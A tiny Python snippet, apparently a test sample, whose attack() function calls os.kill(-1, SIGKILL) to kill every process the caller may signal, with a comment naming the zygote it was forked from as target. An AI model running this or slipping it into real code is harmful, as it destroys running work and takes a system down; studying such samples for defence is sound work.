# Kills every process it may: the zygote that it is a copy of.
import os
import signal


def attack():
    try:
        os.kill(-1, signal.SIGKILL)
    except ProcessLookupError:
        pass  # judged alone
